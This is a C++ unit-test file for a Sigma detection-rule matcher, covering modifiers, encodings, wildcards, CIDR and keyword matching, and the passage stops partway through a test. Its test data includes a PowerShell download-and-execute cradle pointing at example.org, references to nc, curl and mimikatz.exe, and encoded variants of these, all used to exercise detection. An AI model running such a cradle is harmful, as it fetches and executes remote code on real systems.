#include "detect/sigma/item.h"

#include <gtest/gtest.h>

#include "detect/sigma/item_key.h"
#include "detect/sigma/rule_test_support.h"
#include "detect/sigma/text_value.h"
#include "detect/sigma/transform.h"

namespace hinomi::detect::sigma {
namespace {

using testing::boolean;
using testing::Fields;
using testing::item_holds;
using testing::item_refusal;
using testing::item_takes;
using testing::null;
using testing::number;

std::string in_quotes(std::string_view text) {
  std::string out = "'";
  for (const char c : text) out += c == '\'' ? "''" : std::string(1, c);
  return out + "'";
}

TEST(Item, compares_the_whole_value_without_regard_to_case) {
  EXPECT_TRUE(item_takes("F: CMD.exe", "cmd.EXE"));
  EXPECT_FALSE(item_takes("F: cmd.exe", "cmd.exe "));
  EXPECT_FALSE(item_takes("F: cmd.exe", "xcmd.exe"));
  EXPECT_FALSE(item_holds("F: cmd.exe", {{"G", "cmd.exe"}}));
  EXPECT_FALSE(item_holds("F: cmd.exe", {{"f", "cmd.exe"}}));  // field names keep their case
}

TEST(Item, joins_values_by_or_and_by_and_with_all) {
  EXPECT_TRUE(item_takes("F: [a, b]", "b"));
  EXPECT_FALSE(item_takes("F: [a, b]", "c"));
  EXPECT_TRUE(item_takes("F|contains|all: [a, b]", "xbxa"));
  EXPECT_FALSE(item_takes("F|contains|all: [a, b]", "xbxb"));
  EXPECT_TRUE(item_takes("F|all|contains: [a, b]", "ab"));
  EXPECT_TRUE(item_takes("F|contains|all: a", "ab"));  // a single value, though 'all' says nothing then
}

TEST(Item, holds_for_any_value_of_a_repeated_field) {
  const Fields twice{{"F", "one"}, {"F", "two"}};
  EXPECT_TRUE(item_holds("F: two", twice));
  EXPECT_TRUE(item_holds("F|contains|all: [one, two]", twice));
  EXPECT_FALSE(item_holds("F: three", twice));
}

TEST(Item, finds_parts_of_a_value) {
  EXPECT_TRUE(item_takes("F|contains: midd", "the MIDDLE"));
  EXPECT_TRUE(item_takes("F|startswith: the", "The middle"));
  EXPECT_FALSE(item_takes("F|startswith: middle", "the middle"));
  EXPECT_TRUE(item_takes("F|endswith: dle", "the middle"));
  EXPECT_FALSE(item_takes("F|endswith: the", "the middle"));
  EXPECT_TRUE(item_takes("F|startswith|endswith: middle", "the middle of it"));
  EXPECT_TRUE(item_takes("F|contains: ''", "anything"));
}

TEST(Item, takes_wildcards_inside_values) {
  EXPECT_TRUE(item_takes("F: a*d", "abcd"));
  EXPECT_FALSE(item_takes("F: a*d", "abcde"));
  EXPECT_TRUE(item_takes("F: a?c", "a火c"));
  EXPECT_FALSE(item_takes("F: a?c", "ac"));
  EXPECT_TRUE(item_takes("F|contains: 'b*d'", "abcde"));
  EXPECT_TRUE(item_takes("F|startswith: 'a?c'", "abcde"));
  EXPECT_FALSE(item_takes("F|startswith: 'b?d'", "abcde"));
  EXPECT_TRUE(item_takes("F|endswith: 'c*e'", "abcde"));
  EXPECT_FALSE(item_takes("F|endswith: 'c*d'", "abcde"));
  EXPECT_TRUE(item_takes("F: '*b*'", "abc"));
  EXPECT_TRUE(item_takes("F: '*'", "x"));
  EXPECT_TRUE(item_takes("F: '*'", ""));
  EXPECT_FALSE(item_holds("F: '*'", {null("F")}));
  EXPECT_FALSE(item_takes("F: '?*'", ""));
  EXPECT_TRUE(item_takes("F|contains: '*a*b*'", "xaxbx"));
}

TEST(Item, takes_escaped_wildcards_as_plain_characters) {
  struct Row {
    std::string value, taken, passed;
  };
  const std::vector<Row> table{
      {R"(a\*b)", "a*b", "axb"},
      {R"(a\?b)", "a?b", "axb"},
      {R"(c:\\*\x)", R"(c:\dir\x)", R"(c:*\x)"},
      {R"(c:\\\*)", R"(c:\*)", R"(c:\x)"},
      {R"(c:\dir)", R"(c:\dir)", R"(c:\\dir)"},
      {R"(c:\\dir)", R"(c:\dir)", R"(c:\\dir)"},
      {R"(\\\\host)", R"(\\host)", R"(\host)"},
  };
  for (const Row& row : table) {
    EXPECT_TRUE(item_takes("F: " + in_quotes(row.value), row.taken)) << row.value;
    EXPECT_FALSE(item_takes("F: " + in_quotes(row.value), row.passed)) << row.value;
  }
}

TEST(Item, folds_unicode_simply) {
  EXPECT_TRUE(item_takes("F: ｐｏｗｅｒ", "ＰＯＷＥＲ"));  // full-width letters among themselves
  EXPECT_FALSE(item_takes("F: power", "ＰＯＷＥＲ"));      // but not with the narrow ones
  EXPECT_TRUE(item_takes("F: 'ΟΔΟΣ'", "οδος"));            // final sigma
  EXPECT_TRUE(item_takes("F|endswith: 'ς'", "ΟΔΟΣ"));
  EXPECT_TRUE(item_takes("F: k", "\u212A"));  // the Kelvin sign
  EXPECT_TRUE(item_takes("F|contains: ЖЖ", "xжжx"));
  EXPECT_FALSE(item_takes("F: i", "ı"));  // Turkish folding is not simple folding
  EXPECT_FALSE(item_takes("F: i", "İ"));
  EXPECT_FALSE(item_takes("F: strasse", "straße"));  // nor is full folding
}

TEST(Item, keeps_the_case_with_cased) {
  EXPECT_TRUE(item_takes("F|cased: Cmd", "Cmd"));
  EXPECT_FALSE(item_takes("F|cased: Cmd", "cmd"));
  EXPECT_FALSE(item_takes("F|contains|cased: Cmd", "xcmdx"));
  EXPECT_TRUE(item_takes("F|cased|contains: Cmd", "xCmdx"));
  EXPECT_TRUE(item_takes("F|cased: C*D", "CxxD"));
  EXPECT_FALSE(item_takes("F|cased: C*D", "cxxD"));
  EXPECT_FALSE(item_takes("F|cased: Ж", "ж"));
}

TEST(Item, tells_null_empty_and_absent_apart) {
  const Fields absent{{"G", "x"}};
  const Fields nothing{null("F")};
  const Fields empty{{"F", ""}};
  const Fields full{{"F", "x"}};
  struct Row {
    const char* item;
    bool absent, nothing, empty, full;
  };
  const std::vector<Row> table{
      {"F: null", true, true, false, false},
      {"F:", true, true, false, false},
      {"F: ~", true, true, false, false},
      {"F: ''", false, false, true, false},
      {"F: 'null'", false, false, false, false},
      {"F|exists: true", false, true, true, true},
      {"F|exists: false", true, false, false, false},
      {"F|exists|neq: true", true, false, false, false},
      {"F|neq: null", false, false, true, true},
      {"F|neq: ''", true, true, false, true},
      {"F|neq: x", true, true, true, false},
      {"F: [null, '']", true, true, true, false},
      {"F: [null, x]", true, true, false, true},
      {"F|neq: [null, x]", false, false, true, false},
      {"F|contains: ''", false, false, true, true},
      {"F: '*'", false, false, true, true},
      {"F|re: .*", false, false, true, true},
      {"F|fieldref: F", false, false, true, true},
  };
  for (const Row& row : table) {
    EXPECT_EQ(item_holds(row.item, absent), row.absent) << row.item << " absent";
    EXPECT_EQ(item_holds(row.item, nothing), row.nothing) << row.item << " null";
    EXPECT_EQ(item_holds(row.item, empty), row.empty) << row.item << " empty";
    EXPECT_EQ(item_holds(row.item, full), row.full) << row.item << " x";
  }
}

TEST(Item, negates_the_whole_item_with_neq) {
  EXPECT_FALSE(item_takes("F|neq: [a, b]", "a"));
  EXPECT_FALSE(item_takes("F|neq: [a, b]", "B"));
  EXPECT_TRUE(item_takes("F|neq: [a, b]", "c"));
  EXPECT_TRUE(item_holds("F|neq: [a, b]", {{"G", "a"}}));
  EXPECT_TRUE(item_takes("F|contains|neq: b", "ac"));
  EXPECT_FALSE(item_takes("F|neq|contains: b", "abc"));
  EXPECT_TRUE(item_takes("F|contains|all|neq: [a, b]", "a"));  // not both
  EXPECT_FALSE(item_takes("F|contains|all|neq: [a, b]", "ab"));
  EXPECT_FALSE(item_holds("F|neq: 5", {number("F", "5")}));
  EXPECT_TRUE(item_takes("F|re|neq: ^a", "ba"));
  EXPECT_TRUE(item_takes("F|cidr|neq: 10.0.0.0/8", "192.0.2.1"));
  EXPECT_TRUE(item_takes("F|gt|neq: 5", "5"));
}

TEST(Item, takes_numbers_and_booleans_as_their_texts) {
  EXPECT_TRUE(item_holds("F: 4688", {number("F", "4688")}));
  EXPECT_TRUE(item_holds("F: 4688", {{"F", "4688"}}));
  EXPECT_TRUE(item_holds("F: '4688'", {number("F", "4688")}));
  EXPECT_FALSE(item_holds("F: 468", {number("F", "4688")}));
  EXPECT_TRUE(item_holds("F|startswith: 46", {number("F", "4688")}));
  EXPECT_TRUE(item_holds("F: '46*'", {number("F", "4688")}));
  EXPECT_TRUE(item_holds("F: 0x1410", {{"F", "0x1410"}}));  // as the log writes it
  EXPECT_TRUE(item_holds("F: 007", {{"F", "007"}}));
  EXPECT_FALSE(item_holds("F: 007", {number("F", "7")}));
  EXPECT_TRUE(item_holds("F: true", {boolean("F", true)}));
  EXPECT_TRUE(item_holds("F: true", {{"F", "True"}}));
  EXPECT_TRUE(item_holds("F: 'false'", {boolean("F", false)}));
  EXPECT_FALSE(item_holds("F: false", {boolean("F", true)}));
}

TEST(Item, reads_yes_no_and_dates_as_texts) {
  EXPECT_TRUE(item_takes("F: yes", "Yes"));
  EXPECT_FALSE(item_holds("F: yes", {boolean("F", true)}));
  EXPECT_TRUE(item_takes("F: [on, off]", "off"));
  EXPECT_TRUE(item_takes("F: 2026-01-31", "2026-01-31"));
  EXPECT_TRUE(item_takes("F: 1_000", "1_000"));
}

TEST(Item, compares_numbers) {
  struct Row {
    const char* item;
    bool four, five, six;
  };
  for (const Row& row : {Row{"F|lt: 5", true, false, false},
                         {"F|lte: 5", true, true, false},
                         {"F|gt: 5", false, false, true},
                         {"F|gte: 5", false, true, true},
                         {"F|gte: '5'", false, true, true},
                         {"F|gt: 5.5", false, false, true},
                         {"F|gte: [6, 100]", false, false, true},
                         {"F|gt|all: [3, 5]", false, false, true},
                         {"F|gte: 0x5", false, true, true},
                         {"F|lt: -1", false, false, false},
                         {"F|lt: 5e0", true, false, false}}) {
    EXPECT_EQ(item_holds(row.item, {number("F", "4")}), row.four) << row.item;
    EXPECT_EQ(item_holds(row.item, {{"F", "5"}}), row.five) << row.item;
    EXPECT_EQ(item_holds(row.item, {{"F", "6.0"}}), row.six) << row.item;
  }
  for (const char* value : {"", "x", "5x", "five", "-"}) {
    EXPECT_FALSE(item_takes("F|lt: 10", value)) << value;
    EXPECT_FALSE(item_takes("F|gte: -10", value)) << value;
  }
  EXPECT_FALSE(item_holds("F|lt: 5", {}));
  EXPECT_FALSE(item_holds("F|lt: 5", {null("F")}));
  for (const char* item :
       {"F|gt: five", "F|gt: ''", "F|gt: .inf", "F|lt: nan", "F|lte: 1e999", "F|gte: [1, x]"}) {
    EXPECT_NE(item_refusal(item).reason.find("is no number"), std::string::npos) << item;
  }
}

TEST(Item, searches_regular_expressions_with_their_flags) {
  EXPECT_TRUE(item_takes("F|re: b+c", "abbbcd"));
  EXPECT_FALSE(item_takes("F|re: B+c", "abbbcd"));
  EXPECT_TRUE(item_takes("F|re|i: B+C", "abbbcd"));
  EXPECT_TRUE(item_takes("F|re|ignorecase: Ж", "ж"));
  EXPECT_FALSE(item_takes("F|re: ^b$", "a\nb\nc"));
  EXPECT_TRUE(item_takes("F|re|m: ^b$", "a\nb\nc"));
  EXPECT_FALSE(item_takes("F|re: a.b", "a\nb"));
  EXPECT_TRUE(item_takes("F|re|s: a.b", "a\nb"));
  EXPECT_TRUE(item_takes("F|re|dotall|multiline|i: ^A.B$", "x\na\nb"));
  EXPECT_TRUE(item_takes(R"(F|re: '^\d{4}\\x$')", R"(1234\x)"));
  EXPECT_TRUE(item_takes("F|re: ['^a', 'z$']", "xyz"));
  EXPECT_TRUE(item_takes("F|re|all: ['a', 'z$']", "xayz"));
  EXPECT_FALSE(item_takes("F|re|all: ['^a', 'z$']", "xayz"));
  EXPECT_TRUE(item_holds("F|re: '^46'", {number("F", "4688")}));
}

TEST(Item, binds_a_regular_expression_to_the_end_that_is_named) {
  EXPECT_TRUE(item_takes("F|re|contains: b|c", "abd"));
  EXPECT_TRUE(item_takes("F|re|startswith: a|b", "bcd"));
  EXPECT_FALSE(item_takes("F|re|startswith: a|b", "cab"));
  EXPECT_FALSE(item_takes("F|re|startswith|m: b", "a\nb"));
  EXPECT_TRUE(item_takes("F|re|endswith: a|b", "cab"));
  EXPECT_FALSE(item_takes("F|re|endswith: a|b", "abc"));
}

TEST(Item, refuses_what_is_no_regular_expression_with_a_remedy) {
  for (const char* pattern : {"a(?=b)", "(?<!a)b", "(?!x)", R"((a)\1)", "(?>a)"}) {
    const Refusal refusal = item_refusal("F|re: " + in_quotes(pattern));
    EXPECT_NE(refusal.reason.find("regular expression"), std::string::npos) << pattern;
    EXPECT_NE(refusal.remedy.find("look-around"), std::string::npos) << pattern << ": " << refusal.remedy;
    EXPECT_EQ(refusal.where, (base::Position{6, 12})) << pattern;
  }
  for (const char* pattern : {"(", "[a", "*", "a{2,1}", "a**"}) {
    EXPECT_FALSE(item_refusal("F|re: " + in_quotes(pattern)).remedy.empty()) << pattern;
  }
  EXPECT_NE(item_refusal("F|re: '((a{100}){100}){100}'").remedy.find("smaller"), std::string::npos);
}

TEST(Item, encodes_values_as_they_stand_in_longer_texts) {
  const std::string script =
      "powershell -NoProfile -Command IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')";
  const std::string secret = "Net.WebClient";
  for (std::size_t before = 0; before < 7; ++before) {
    const std::string plain = script.substr(before);
    EXPECT_TRUE(item_takes("F|base64offset|contains: " + secret, "x " + base64(plain))) << before;
    EXPECT_TRUE(item_takes("F|wide|base64offset|contains: " + secret,
                           "-enc " + base64(utf16(plain, Utf16::little_endian))));
    EXPECT_TRUE(
        item_takes("F|utf16le|base64offset|contains: " + secret, base64(utf16(plain, Utf16::little_endian))));
    EXPECT_TRUE(
        item_takes("F|utf16be|base64offset|contains: " + secret, base64(utf16(plain, Utf16::big_endian))));
    EXPECT_FALSE(item_takes("F|utf16le|base64offset|contains: " + secret, base64(plain)));
  }
  EXPECT_TRUE(item_takes("F|base64|contains: 'powershell -NoP'", base64(script)));
  EXPECT_TRUE(item_takes("F|base64: " + secret, base64(secret)));
  EXPECT_FALSE(item_takes("F|base64: " + secret, base64(secret) + "x"));
  EXPECT_TRUE(
      item_takes("F|utf16|base64offset|contains: powershell", base64(utf16(script, Utf16::with_mark))));
  EXPECT_TRUE(item_takes("F|base64offset|contains: 火の見", base64("x火の見y")));
}

TEST(Item, finds_encoded_bytes_as_they_are) {
  using namespace std::string_literals;
  EXPECT_TRUE(item_takes("F|wide|contains: cmd", "xc\0m\0d\0"s));
  EXPECT_TRUE(item_takes("F|utf16be|contains: cmd", "\0c\0m\0d"s));
  EXPECT_TRUE(item_takes("F|utf16|contains: cmd",
                         "\xFF\xFE"
                         "C\0M\0D\0"s));  // FF and FE are bytes here, not wildcards
  EXPECT_FALSE(item_takes("F|utf16|contains: cmd", "xyc\0m\0d\0"s));
}

TEST(Item, refuses_to_encode_wildcards_and_what_is_too_short) {
  for (const char* item : {"F|base64: 'a*b'", "F|base64offset|contains: 'abc?d'", "F|wide: '*abc'",
                           "F|contains|base64: abcd", "F|startswith|utf16be: abcd"}) {
    EXPECT_NE(item_refusal(item).reason.find("wildcards, which cannot be encoded"), std::string::npos)
        << item;
  }
  EXPECT_TRUE(item_takes(R"(F|base64: 'a\*b')", base64("a*b")));
  EXPECT_NE(item_refusal("F|base64offset|contains: a").reason.find("too short"), std::string::npos);
  EXPECT_NE(item_refusal("F|utf16|expand: '%x%'").reason.find("behind an encoding"), std::string::npos);
}

TEST(Item, takes_every_dash_with_windash) {
  for (const char* dash : {"-", "/", "\u2013", "\u2014", "\u2015"}) {
    EXPECT_TRUE(item_takes("F|contains|windash: ' -enc '", std::string("cmd ") + dash + "ENC x")) << dash;
    EXPECT_TRUE(item_takes("F|windash|contains: ' /enc '", std::string("cmd ") + dash + "enc x")) << dash;
    EXPECT_TRUE(
        item_takes("F|windash|contains|all: [' -a', ' /b']", std::string("x ") + dash + "b " + dash + "a"))
        << dash;
    EXPECT_TRUE(item_takes("F|endswith|windash: ' \u2014s'", std::string("x ") + dash + "s")) << dash;
    EXPECT_TRUE(
        item_takes("F|windash|base64offset|contains: ' -enc'", base64(std::string("cmd ") + dash + "enc x")))
        << dash;
  }
  EXPECT_FALSE(item_takes("F|contains|windash: ' -enc '", "cmd +enc x"));
  EXPECT_FALSE(item_takes("F|contains|windash: 'foo-bar'", "foo/bar"));
  EXPECT_TRUE(item_takes("F|contains|windash: 'foo-bar'", "foo-bar"));
  EXPECT_FALSE(item_takes("F|contains: ' -enc '", "cmd /enc x"));
  EXPECT_TRUE(item_takes("F|contains|windash: '-a*-b'", "x /acd \u2013b"));
}

TEST(Item, refers_to_other_fields) {
  const Fields same{{"F", "Alice"}, {"G", "ALICE"}};
  const Fields longer{{"F", "Alice"}, {"G", "lic"}};
  const Fields alone{{"F", "Alice"}};
  EXPECT_TRUE(item_holds("F|fieldref: G", same));
  EXPECT_FALSE(item_holds("F|fieldref|cased: G", same));
  EXPECT_FALSE(item_holds("F|fieldref: G", longer));
  EXPECT_TRUE(item_holds("F|fieldref|contains: G", longer));
  EXPECT_FALSE(item_holds("F|fieldref|startswith: G", longer));
  EXPECT_TRUE(item_holds("F|fieldref|startswith: G", {{"F", "Alice"}, {"G", "ali"}}));
  EXPECT_TRUE(item_holds("F|fieldref|endswith: G", {{"F", "Alice"}, {"G", "ICE"}}));
  EXPECT_FALSE(item_holds("F|fieldref: G", alone));
  EXPECT_FALSE(item_holds("F|fieldref|neq: G", same));
  EXPECT_TRUE(item_holds("F|fieldref|neq: G", longer));
  EXPECT_TRUE(item_holds("F|fieldref|neq: G", alone));
  EXPECT_TRUE(item_holds("F|neq|fieldref|startswith: G", longer));
  EXPECT_FALSE(item_holds("F|fieldref: G", {null("F"), null("G")}));
  EXPECT_TRUE(item_holds("F|fieldref: [G, H]", {{"F", "x"}, {"G", "y"}, {"H", "x"}}));
  EXPECT_TRUE(item_holds("F|fieldref: G", {{"F", "x"}, {"G", "y"}, {"G", "x"}}));
  EXPECT_NE(item_refusal("'|fieldref': G").reason.find("field on both sides"), std::string::npos);
  EXPECT_NE(item_refusal("F|fieldref: ''").reason.find("field on both sides"), std::string::npos);
}

TEST(Item, knows_networks_of_both_versions) {
  EXPECT_TRUE(item_takes("F|cidr: 10.0.0.0/8", "10.255.0.1"));
  EXPECT_FALSE(item_takes("F|cidr: 10.0.0.0/8", "11.0.0.1"));
  EXPECT_TRUE(item_takes("F|cidr: 192.0.2.128/25", "192.0.2.200"));
  EXPECT_FALSE(item_takes("F|cidr: 192.0.2.128/25", "192.0.2.100"));
  EXPECT_TRUE(item_takes("F|cidr: 0.0.0.0/0", "203.0.113.9"));
  EXPECT_TRUE(item_takes("F|cidr: 192.0.2.1", "192.0.2.1"));
  EXPECT_TRUE(item_takes("F|cidr: '2001:db8::/32'", "2001:DB8:1::1"));
  EXPECT_FALSE(item_takes("F|cidr: '2001:db8::/32'", "2001:db9::1"));
  EXPECT_TRUE(item_takes("F|cidr: '::1/128'", "0:0:0:0:0:0:0:1"));
  EXPECT_FALSE(item_takes("F|cidr: '2001:db8::/32'", "10.0.0.1"));
  EXPECT_TRUE(item_takes("F|cidr: 10.0.0.0/8", "::ffff:10.0.0.1"));
  EXPECT_TRUE(item_takes("F|cidr: [10.0.0.0/8, '2001:db8::/32']", "2001:db8::"));
  for (const char* value : {"", "10.0.0", "x", "10.0.0.1/8", "10.0.0.1 "})
    EXPECT_FALSE(item_takes("F|cidr: 10.0.0.0/8", value)) << value;
  for (const char* item : {"F|cidr: 10.0.0.0/33", "F|cidr: 10.0.0/8", "F|cidr: '2001:db8::/129'",
                           "F|cidr: ''", "F|cidr: 10.*"}) {
    EXPECT_NE(item_refusal(item).reason.find("is no network"), std::string::npos) << item;
  }
}

CompileOptions with(Placeholders placeholders) {
  return {.placeholders = std::move(placeholders), .window = WindowKind::sliding};
}

TEST(Item, replaces_placeholders_by_their_values) {
  const CompileOptions options =
      with({{"admins", {"root", "adm*"}}, {"tool", {"nc", "curl"}}, {"net", {"10.0.0.0/8", "192.0.2.0/24"}}});
  const auto takes = [&](std::string_view item, std::string_view value) {
    return item_holds(item, {{"F", std::string(value)}}, {}, options);
  };
  EXPECT_TRUE(takes("F|expand: '%admins%'", "ROOT"));
  EXPECT_TRUE(takes("F|expand: '%admins%'", "adm_x"));
  EXPECT_FALSE(takes("F|expand: '%admins%'", "%admins%"));
  EXPECT_TRUE(takes("F: '%admins%'", "%admins%"));  // only with the modifier
  EXPECT_TRUE(takes("F|expand: '%tool%:%admins%'", "curl:root"));
  EXPECT_TRUE(takes("F|expand: '%tool%:%admins%'", "nc:admin"));
  EXPECT_FALSE(takes("F|expand: '%tool%:%admins%'", "root:nc"));
  EXPECT_TRUE(takes("F|contains|expand: '/%tool% '", "/bin/curl x"));
  EXPECT_TRUE(takes("F|expand|endswith: '%admins%'", "x adm y"));
  EXPECT_TRUE(takes("F|expand: ['%tool%', '%admins%']", "root"));
  EXPECT_TRUE(takes("F|expand|contains|all: ['%tool%', '%admins%']", "nc root"));
  EXPECT_FALSE(takes("F|expand|contains|all: ['%tool%', '%admins%']", "nc curl"));
  EXPECT_TRUE(takes("F|expand|neq: '%tool%'", "wget"));
  EXPECT_TRUE(takes(R"(F|expand: '\%plain%tool%')", "%plainnc"));
  EXPECT_TRUE(takes(R"(F|expand: '100\%')", "100%"));
  EXPECT_TRUE(takes("F|expand: '100%'", "100%"));
  EXPECT_TRUE(takes("F|expand: '%%'", "%%"));
  EXPECT_TRUE(takes("F|expand: '%%tool%'", "%nc"));
  EXPECT_TRUE(takes("F|expand|base64offset|contains: 'run %tool% now'", base64("please run curl now")));
  EXPECT_TRUE(takes("F|cidr|expand: '%net%'", "192.0.2.7"));
  EXPECT_FALSE(takes("F|cidr|expand: '%net%'", "192.0.3.7"));
  EXPECT_TRUE(takes("F|re|expand: '^%admins%\\d$'", "admin7"));
  EXPECT_FALSE(takes("F|re|expand: '^%tool%$'", "ncx"));
  EXPECT_TRUE(item_holds("F|re|expand: '^%dots%$'", {{"F", "a.b"}}, {}, with({{"dots", {"a.b"}}})));
  EXPECT_FALSE(item_holds("F|re|expand: '^%dots%$'", {{"F", "axb"}}, {}, with({{"dots", {"a.b"}}})));
}

TEST(Item, refuses_a_placeholder_without_values_by_name) {
  const Refusal refusal = item_refusal("F|contains|expand: 'x%Unknown_Thing%'");
  EXPECT_NE(refusal.reason.find("%Unknown_Thing%"), std::string::npos);
  EXPECT_NE(refusal.remedy.find("--placeholders"), std::string::npos);
  EXPECT_EQ(refusal.where, (base::Position{6, 25}));
  EXPECT_NE(item_refusal("F|expand: '%none%'", with({{"none", {}}})).reason.find("%none%"),
            std::string::npos);
  EXPECT_NE(item_refusal("F|cidr|expand: '%net%'").reason.find("%net%"), std::string::npos);
}

TEST(Item, limits_what_a_value_may_expand_to) {
  const std::vector<std::string> many(101, "v");
  const CompileOptions options = with({{"many", many}});
  EXPECT_NE(item_refusal("F|expand: '%many%%many%'", options).reason.find("more than 10000 texts"),
            std::string::npos);
  EXPECT_NE(item_refusal("F|windash|base64: '-a -b -c -d -e -f'").reason.find("more than 10000 texts"),
            std::string::npos);
  std::string placeholders;
  for (std::size_t i = 0; i <= kMaxPlaceholdersInValue; ++i) placeholders += "%one%";
  EXPECT_NE(item_refusal("F|expand: '" + placeholders + "'", with({{"one", {"v"}}}))
                .reason.find("or 64 placeholders"),
            std::string::npos);
  const std::string large(5 * 1024 * 1024, 'x');
  EXPECT_NE(item_refusal("F|base64offset: " + large).reason.find("16777216 bytes"), std::string::npos);
  EXPECT_NE(item_refusal("F|expand: '%many%" + large + "'", options).reason.find("16777216 bytes"),
            std::string::npos);
  std::string modifiers = "F";
  for (std::size_t i = 0; i <= kMaxModifiers; ++i) modifiers += "|all";
  EXPECT_NE(item_refusal(modifiers + ": a").reason.find("more than 16 modifiers"), std::string::npos);
}

TEST(Item, knows_the_parts_of_time_stamps) {
  const std::string saturday = "2026-01-03T22:07:59Z";  // in the first ISO week of its year
  for (const char* item :
       {"F|minute: 7", "F|hour: 22", "F|day: 3", "F|week: 1", "F|month: 1", "F|year: 2026", "F|hour: '22'",
        "F|hour: [1, 22]", "F|hour|gte: 22", "F|hour|gt: 21", "F|gte|hour: 22", "F|month|lt: 2",
        "F|day|lte: 3", "F|year|gt: 2025", "F|hour|neq: 21", "F|hour|gt|all: [18, 21]"}) {
    EXPECT_TRUE(item_takes(item, saturday)) << item;
  }
  for (const char* item :
       {"F|minute: 8", "F|hour: 21", "F|day: 4", "F|week: 53", "F|month: 2", "F|year: 2025", "F|hour|gt: 22",
        "F|hour|lt: 22", "F|hour|neq: 22", "F|day|lt: 3", "F|day|lt: 1"}) {
    EXPECT_FALSE(item_takes(item, saturday)) << item;
  }
  EXPECT_TRUE(item_takes("F|week: 53", "2027-01-03 00:00:00"));  // ISO 8601: still the last week of 2026
  EXPECT_FALSE(item_takes("F|hour: 22", "22"));
  EXPECT_FALSE(item_takes("F|hour|lt: 23", "yesterday"));
  for (const char* item : {"F|hour: 24", "F|minute: -1", "F|hour: 1.5", "F|day: 0", "F|month: 13",
                           "F|hour: x", "F|year: 1e300", "F|week: 54"}) {
    EXPECT_NE(item_refusal(item).reason.find("not that part of a time-stamp"), std::string::npos) << item;
  }
}

TEST(Item, refuses_modifiers_that_would_be_ignored) {
  for (const char* item : {"F|re|windash: a", "F|re|base64: a", "F|cidr|contains: 10.0.0.0/8",
                           "F|gt|contains: 5", "F|exists|contains: true", "F|exists|all|re: true",
                           "F|gt|lt: 5", "F|hour|day: 5", "F|fieldref|windash: G", "F|re|cidr: a",
                           "F|fieldref|re: G", "F|hour|contains: 5", "F|wide|re: a", "F|cased|gt: 5"}) {
    const Refusal refusal = item_refusal(item);
    EXPECT_NE(refusal.reason.find("do not go together"), std::string::npos) << item << ": " << refusal.reason;
    EXPECT_EQ(refusal.where, (base::Position{6, 5})) << item;
  }
  EXPECT_NE(item_refusal("F|i: a").reason.find("without 're'"), std::string::npos);
  EXPECT_NE(item_refusal("F|i|re: a").reason.find("without 're'"), std::string::npos);
  EXPECT_NE(item_refusal("F|contain: a").reason.find("unknown modifier 'contain'"), std::string::npos);
  EXPECT_NE(item_refusal("F|: a").reason.find("unknown modifier ''"), std::string::npos);
  EXPECT_NE(item_refusal("F|Contains: a").reason.find("unknown modifier"), std::string::npos);
}

TEST(Item, refuses_missing_and_misplaced_values) {
  for (const char* item : {"F|contains:", "F|re: null", "F|gt: ~",
                           "F|cidr:", "F|fieldref:", "F|endswith: [a, null]", "F|hour:"}) {
    EXPECT_NE(item_refusal(item).reason.find("has no value"), std::string::npos) << item;
  }
  EXPECT_NE(item_refusal("F: []").reason.find("has no values"), std::string::npos);
  EXPECT_NE(item_refusal("F|contains: []").reason.find("has no values"), std::string::npos);
  EXPECT_NE(item_refusal("F: {a: b}").reason.find("is a map"), std::string::npos);
  EXPECT_NE(item_refusal("F: [[a]]").reason.find("is a list or a map"), std::string::npos);
  EXPECT_NE(item_refusal("F|exists: maybe").reason.find("true or false"), std::string::npos);
  EXPECT_NE(item_refusal("F|exists: 'true'").reason.find("true or false"), std::string::npos);
  EXPECT_NE(item_refusal("'|exists': true").reason.find("needs a field"), std::string::npos);
  EXPECT_NE(item_refusal("'|all': [a, null]").reason.find("null needs a field"), std::string::npos);
}

const Fields kLogin{{"Message", "User Alice logged in"}, {"Tool", "mimikatz.exe"}, number("Code", "4624")};

bool keywords_hold(std::string_view keywords, const Fields& fields, std::string_view raw = {}) {
  return testing::holds(testing::rule_text("k: " + std::string(keywords) + "\ncondition: k"), fields, raw);
}

TEST(Keywords, are_looked_for_in_every_value_and_in_the_raw_text) {
  EXPECT_TRUE(keywords_hold("[alice, bob]", kLogin));
  EXPECT_TRUE(keywords_hold("[MIMI]", kLogin));
  EXPECT_TRUE(keywords_hold("mimikatz", kLogin));
  EXPECT_TRUE(keywords_hold("[4624]", kLogin));
  EXPECT_TRUE(keywords_hold("[462]", kLogin));
  EXPECT_FALSE(keywords_hold("[bob]", kLogin));
  EXPECT_TRUE(keywords_hold("[bob]", kLogin, "Jan  1 host sshd: BOB was here"));
  EXPECT_FALSE(keywords_hold("[bob]", {}));
  EXPECT_FALSE(keywords_hold("[Message]", kLogin));  // names of fields are no values
}

TEST(Keywords, are_looked_for_in_raw_json_only_with_a_quotation_mark) {
  testing::Bench bench(testing::compile(
      "title: plain\nlogsource: {product: p}\ndetection: {k: [bob], condition: k}\n---\n"
      "title: quoted\nlogsource: {product: p}\ndetection: {k: ['\"name\":\"bob'], condition: k}\n"));
  const std::string_view raw = R"({"name":"bob"})";
  EXPECT_EQ(bench.matches({}, raw, event::Format::json), std::vector<std::string>{"quoted"});
  EXPECT_EQ(bench.matches({{"name", "bob"}}, raw, event::Format::json),
            (std::vector<std::string>{"plain", "quoted"}));
  EXPECT_EQ(bench.matches({}, raw, event::Format::text), (std::vector<std::string>{"plain", "quoted"}));
}

TEST(Keywords, take_wildcards_and_modifiers) {
  EXPECT_TRUE(keywords_hold("['user*logged']", kLogin));
  EXPECT_TRUE(keywords_hold("['ali?e']", kLogin));
  EXPECT_FALSE(keywords_hold("['logged*user']", kLogin));
  EXPECT_TRUE(item_holds("'|all': [alice, mimikatz]", kLogin));  // each in a value of its own
  EXPECT_FALSE(item_holds("'|all': [alice, bob]", kLogin));
  EXPECT_TRUE(item_holds("'|all': [alice, bob]", kLogin, "bob"));
  EXPECT_TRUE(item_holds("'|re': 'logged (in|out)$'", kLogin));
  EXPECT_FALSE(item_holds("'|re': '^logged'", kLogin));
  EXPECT_TRUE(
      item_holds("'|base64offset|contains': 'Net.WebClient'", {{"X", "z " + base64("new Net.WebClient")}}));
  EXPECT_TRUE(item_holds("'|startswith': user", kLogin));
  EXPECT_FALSE(item_holds("'|startswith': alice", kLogin));
  EXPECT_TRUE(item_holds("'|endswith': .EXE", kLogin));
  EXPECT_FALSE(item_holds("'|cased': alice", kLogin));
  EXPECT_TRUE(item_holds("'|cased': Alice", kLogin));
  EXPECT_FALSE(item_holds("'|neq': alice", kLogin));
